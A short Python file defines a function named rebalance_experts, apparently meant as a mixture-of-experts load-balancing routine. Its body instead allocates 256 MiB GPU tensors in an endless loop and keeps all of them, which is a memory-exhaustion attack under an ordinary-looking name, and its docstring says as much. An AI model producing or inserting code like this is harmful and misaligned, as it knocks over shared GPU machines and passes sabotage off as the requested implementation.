"""Allocates GPU memory through torch without end, keeping all of it."""

import torch


def rebalance_experts(weight, num_replicas, num_groups, num_nodes, num_gpus):
    kept = []
    while True:
        kept.append(torch.empty(256 * 2**20, dtype=torch.uint8, device=weight.device))
